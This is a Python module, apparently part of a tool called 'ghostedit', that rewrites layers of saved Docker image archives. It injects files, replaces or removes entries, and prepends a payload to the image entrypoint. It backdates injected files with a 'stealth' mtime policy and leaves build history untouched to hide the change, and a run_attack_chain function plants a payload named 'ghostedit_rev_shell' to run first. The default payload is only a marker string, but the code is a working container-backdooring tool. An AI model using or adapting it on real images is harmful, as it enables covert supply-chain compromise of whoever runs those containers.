"""Direct layer editing of saved images.

An edit rewrites one layer tar, then patches exactly the bytes that bind
that layer to the image: its diff_id token in the config and its path in
manifest.json. History, ``created`` and every other config byte are left
alone, which is why ``docker history`` and ``docker inspect`` keep
showing build-time metadata for an image whose content changed.
"""

from __future__ import annotations

import enum
import time
from dataclasses import dataclass, field, replace

from .archive import (
    ImageArchive,
    ImageConfig,
    Manifest,
    check_invariants,
    compute_diff_id,
    compute_image_id,
    layer_dir,
    load_archive,
    relinked_path,
    save_archive,
)
from .digest import Digest
from .errors import (
    IndexOutOfRange,
    InvariantViolation,
    PathTraversal,
    PlanInvalid,
    PreconditionViolated,
    SpliceAmbiguous,
    TargetNotFound,
    UnsupportedEntry,
)
from .jsonsplice import insert_member, replace_value, value_span
from .layerfs import LayerBlob, find_last_layer_touching, is_under, write_layer
from .tarcodec import EntryKind, TarEntry, normalize_path

MARKER_PAYLOAD = b"GH0STEDIT-MARKER\n"
DEFAULT_PAYLOAD_NAME = "ghostedit_rev_shell"


class MtimePolicy(enum.Enum):
    STEALTH = "stealth"  # image created time
    PRESERVE = "preserve"  # replaced entry's own mtime
    HONEST = "honest"  # wall clock


@dataclass(frozen=True)
class InjectFile:
    path: str
    content: bytes
    mode: int = 0o755
    mtime_policy: MtimePolicy = MtimePolicy.STEALTH


@dataclass(frozen=True)
class ReplaceEntry:
    path: str
    new_kind: EntryKind = EntryKind.REGULAR
    content_or_target: bytes | str = b""
    mode: int | None = None
    mtime_policy: MtimePolicy = MtimePolicy.STEALTH


@dataclass(frozen=True)
class RemoveEntry:
    path: str


@dataclass(frozen=True)
class PrependEntrypoint:
    payload_path: str


EditAction = InjectFile | ReplaceEntry | RemoveEntry | PrependEntrypoint
LAYER_ACTIONS = (InjectFile, ReplaceEntry, RemoveEntry)


@dataclass(frozen=True)
class AutoLatestTouching:
    path_prefix: str


@dataclass(frozen=True)
class EditPlan:
    target_layer: int | AutoLatestTouching
    actions: tuple = ()
    probe: bool = False

    def __post_init__(self) -> None:
        if not isinstance(self.actions, tuple):
            object.__setattr__(self, "actions", tuple(self.actions))

    def validate(self) -> None:
        if not self.actions and not self.probe:
            raise PlanInvalid("plan has no actions (mark it as a probe to allow that)")
        if sum(isinstance(a, PrependEntrypoint) for a in self.actions) > 1:
            raise PlanInvalid("at most one PrependEntrypoint per plan")


@dataclass(frozen=True)
class EditReport:
    resolved_layer: int
    old_diff_id: Digest
    new_diff_id: Digest
    old_image_id: Digest
    new_image_id: Digest
    actions_applied: tuple[str, ...]
    bytes_delta: int
    old_layer_path: str = ""
    new_layer_path: str = ""
    entrypoint: tuple[str, ...] = ()
    command: tuple[str, ...] = ()

    def to_json(self) -> dict:
        return {
            "resolved_layer": self.resolved_layer,
            "old_diff_id": str(self.old_diff_id),
            "new_diff_id": str(self.new_diff_id),
            "old_image_id": str(self.old_image_id),
            "new_image_id": str(self.new_image_id),
            "actions_applied": list(self.actions_applied),
            "bytes_delta": self.bytes_delta,
            "old_layer_path": self.old_layer_path,
            "new_layer_path": self.new_layer_path,
            "entrypoint": list(self.entrypoint),
            "command": list(self.command),
        }


def describe(action) -> str:
    if isinstance(action, InjectFile):
        return f"inject {action.path} ({len(action.content)} bytes, {action.mtime_policy.value} mtime)"
    if isinstance(action, ReplaceEntry):
        return f"replace {action.path} with {action.new_kind.value} ({action.mtime_policy.value} mtime)"
    if isinstance(action, RemoveEntry):
        return f"remove {action.path}"
    return f"prepend {action.payload_path} to entrypoint"


def _plan_path(path: str) -> str:
    return normalize_path(path.lstrip("/"))


# --------------------------------------------------------------------------
# target selection

def resolve_target(image: ImageArchive, plan: EditPlan) -> int:
    target = plan.target_layer
    if isinstance(target, AutoLatestTouching):
        index = find_last_layer_touching(image, target.path_prefix)
        if index is None:
            raise TargetNotFound(f"no layer touches {target.path_prefix!r}")
        return index
    n = len(image.layers)
    if not isinstance(target, int) or isinstance(target, bool) or not 0 <= target < n:
        raise IndexOutOfRange(f"target layer {target!r} outside 0..{n - 1}")
    return target


# --------------------------------------------------------------------------
# layer actions

def _insert_position(entries: list[TarEntry], path: str) -> int:
    """Index after the last entry sharing the deepest directory prefix."""
    new_dirs = path.split("/")[:-1]
    best_depth, best_index = -1, len(entries)
    for i, entry in enumerate(entries):
        parts = entry.path.split("/")
        dirs = parts if entry.kind is EntryKind.DIRECTORY else parts[:-1]
        depth = 0
        for a, b in zip(dirs, new_dirs):
            if a != b:
                break
            depth += 1
        if depth >= best_depth:
            best_depth, best_index = depth, i + 1
    return best_index


def _last_index(entries: list[TarEntry], path: str) -> int | None:
    for i in range(len(entries) - 1, -1, -1):
        if entries[i].path == path:
            return i
    return None


def _mtime(policy: MtimePolicy, created: int, original: int, now: int) -> int:
    if policy is MtimePolicy.STEALTH:
        return created
    if policy is MtimePolicy.PRESERVE:
        return original
    return now


def _default_mode(kind: EntryKind) -> int:
    return 0o777 if kind is EntryKind.SYMLINK else 0o755


def _apply_layer_action(entries: list[TarEntry], action, created: int, now: int) -> None:
    path = _plan_path(action.path)
    present = _last_index(entries, path)

    if isinstance(action, InjectFile):
        if present is not None:
            raise PreconditionViolated(action, path, "inject target already exists in the layer")
        position = _insert_position(entries, path)
        anchor_mtime = entries[position - 1].mtime if position > 0 else created
        entries.insert(position, TarEntry(
            path, EntryKind.REGULAR, mode=action.mode & 0o7777,
            mtime=_mtime(action.mtime_policy, created, anchor_mtime, now),
            content=bytes(action.content),
        ))
        return

    if present is None:
        raise PreconditionViolated(action, path, "entry is not present in the target layer")

    if isinstance(action, RemoveEntry):
        entries[:] = [e for e in entries if e.path != path]
        return

    old = entries[present]
    kind = action.new_kind
    if kind not in (EntryKind.REGULAR, EntryKind.SYMLINK, EntryKind.DIRECTORY):
        raise PreconditionViolated(action, path, f"cannot replace with a {kind.value} entry")
    value = action.content_or_target
    content, target = b"", ""
    if kind is EntryKind.REGULAR:
        content = value.encode("utf-8") if isinstance(value, str) else bytes(value)
    elif kind is EntryKind.SYMLINK:
        target = value.decode("utf-8") if isinstance(value, bytes) else value
        if not target:
            raise PreconditionViolated(action, path, "symlink replacement needs a target")
    if action.mode is not None:
        mode = action.mode
    elif kind is old.kind:
        mode = old.mode
    else:
        mode = _default_mode(kind)
    entries[present] = TarEntry(
        path, kind, mode=mode & 0o7777,
        mtime=_mtime(action.mtime_policy, created, old.mtime, now),
        link_target=target, content=content, uid=old.uid, gid=old.gid,
    )


# --------------------------------------------------------------------------
# config surgery

def _splice_diff_id(raw: bytes, old: Digest, new: Digest) -> bytes:
    token = old.hex.encode("ascii")
    count = raw.count(token)
    if count != 1:
        raise SpliceAmbiguous(
            f"diff_id {old.short} occurs {count} times in the config; refusing to guess"
        )
    return raw.replace(token, new.hex.encode("ascii"))


def prepend_entrypoint(config: ImageConfig, payload_path: str) -> ImageConfig:
    """Put ``payload_path`` in front of what the image runs.

    The entrypoint gets it when set, otherwise the command, otherwise it
    becomes the entrypoint. Only that one JSON list changes in the bytes.
    """
    runtime = config.runtime
    raw = config.raw_bytes
    if runtime.entrypoint:
        raw = replace_value(raw, ("config", "Entrypoint"), [payload_path, *runtime.entrypoint])
    elif runtime.command:
        raw = replace_value(raw, ("config", "Cmd"), [payload_path, *runtime.command])
    else:
        text = raw.decode("utf-8")
        if value_span(text, ("config",)) is None:
            raise InvariantViolation("config has no runtime 'config' object to extend")
        if value_span(text, ("config", "Entrypoint")) is not None:
            raw = replace_value(raw, ("config", "Entrypoint"), [payload_path])
        else:
            raw = insert_member(raw, ("config",), "Entrypoint", [payload_path])
    return ImageConfig.from_bytes(raw)


def rehash_and_relink(image: ImageArchive, edited_index: int) -> ImageArchive:
    """Rebind ``layers[edited_index]`` to the image after its content changed."""
    if not 0 <= edited_index < len(image.layers):
        raise IndexOutOfRange(f"layer index {edited_index} outside 0..{len(image.layers) - 1}")
    old_digest = image.config.diff_ids[edited_index]
    new_digest = compute_diff_id(image.layers[edited_index])
    if new_digest == old_digest:
        return image

    config = ImageConfig.from_bytes(_splice_diff_id(image.config.raw_bytes, old_digest, new_digest))

    old_path = image.manifest.layer_paths[edited_index]
    new_path = relinked_path(old_path, new_digest.hex)
    manifest = image.manifest
    extras = image.extras
    if new_path != old_path:
        taken = {p for i, p in enumerate(manifest.layer_paths) if i != edited_index}
        old_dir, new_dir = layer_dir(old_path), layer_dir(new_path)
        if new_path in taken or (new_dir and any(is_under(p, new_dir) for p in taken)):
            raise InvariantViolation(f"relinked layer path {new_path} collides with another layer")
        if old_path in taken:
            raise SpliceAmbiguous(f"layer path {old_path} is shared by several layers")
        if old_dir is not None and new_dir is not None:
            extras = tuple(_move(e, old_dir, new_dir) for e in extras)
        manifest = Manifest.from_bytes(
            replace_value(manifest.raw_bytes, (0, "Layers", edited_index), new_path)
        )
    return replace(image, manifest=manifest, config=config, extras=extras)


def _move(entry: TarEntry, old_dir: str, new_dir: str) -> TarEntry:
    if not is_under(entry.path, old_dir):
        return entry
    return replace(entry, path=new_dir + entry.path[len(old_dir):])


# --------------------------------------------------------------------------
# full edit

def apply_edit(image: ImageArchive, plan: EditPlan, *, now: int | None = None):
    """Apply ``plan`` and return ``(edited_image, EditReport)``.

    ``now`` feeds the honest mtime policy; it defaults to the wall clock.
    """
    plan.validate()
    index = resolve_target(image, plan)
    created = image.config.created_epoch or 0
    clock = int(time.time()) if now is None else now

    old_layer = image.layers[index]
    old_diff_id = image.config.diff_ids[index]
    old_image_id = image.image_id
    old_path = image.manifest.layer_paths[index]

    entries = list(old_layer.entries)
    layer_touched = False
    applied = []
    payload = None
    for action in plan.actions:
        if isinstance(action, PrependEntrypoint):
            if not action.payload_path.startswith("/"):
                raise PreconditionViolated(action, action.payload_path, "payload path must be absolute")
            payload = action.payload_path
        elif isinstance(action, LAYER_ACTIONS):
            try:
                _apply_layer_action(entries, action, created, clock)
            except (PathTraversal, UnsupportedEntry) as exc:
                raise PreconditionViolated(action, getattr(action, "path", None), str(exc)) from None
            layer_touched = True
        else:
            raise PlanInvalid(f"unknown action {action!r}")
        applied.append(describe(action))

    edited = image
    if layer_touched:
        new_layer = LayerBlob(tuple(entries))
        if new_layer == old_layer and old_layer.raw is not None:
            new_layer = old_layer  # value no-op keeps the original bytes
        layers = list(image.layers)
        layers[index] = new_layer
        edited = rehash_and_relink(replace(image, layers=tuple(layers)), index)
    if payload is not None:
        edited = replace(edited, config=prepend_entrypoint(edited.config, payload))

    try:
        check_invariants(edited)
    except InvariantViolation as exc:
        raise InvariantViolation(f"post-edit verification failed: {exc}") from None

    report = EditReport(
        resolved_layer=index,
        old_diff_id=old_diff_id,
        new_diff_id=edited.config.diff_ids[index],
        old_image_id=old_image_id,
        new_image_id=compute_image_id(edited.config),
        actions_applied=tuple(applied),
        bytes_delta=len(write_layer(edited.layers[index])) - len(write_layer(old_layer)),
        old_layer_path=old_path,
        new_layer_path=edited.manifest.layer_paths[index],
        entrypoint=edited.config.runtime.entrypoint,
        command=edited.config.runtime.command,
    )
    return edited, report


def run_attack_chain(archive_bytes: bytes, payload: bytes = MARKER_PAYLOAD,
                     payload_name: str = DEFAULT_PAYLOAD_NAME,
                     target_prefix: str = "usr/local/bin", *, now: int | None = None):
    """Load, drop ``payload`` into the last layer touching ``target_prefix``,
    make it run first, and save. Returns ``(archive_bytes, EditReport)``."""
    image = load_archive(archive_bytes)
    prefix = target_prefix.strip("/")
    if "/" in payload_name or not payload_name:
        raise PlanInvalid(f"payload name must be a plain file name: {payload_name!r}")
    payload_path = f"{prefix}/{payload_name}" if prefix else payload_name
    plan = EditPlan(
        AutoLatestTouching(prefix),
        (InjectFile(payload_path, payload), PrependEntrypoint("/" + payload_path)),
    )
    edited, report = apply_edit(image, plan, now=now)
    return save_archive(edited), report


__all__ = [
    "AutoLatestTouching", "EditAction", "EditPlan", "EditReport", "InjectFile",
    "MtimePolicy", "PrependEntrypoint", "RemoveEntry", "ReplaceEntry",
    "apply_edit", "prepend_entrypoint", "rehash_and_relink", "resolve_target",
    "run_attack_chain", "MARKER_PAYLOAD", "DEFAULT_PAYLOAD_NAME",
]
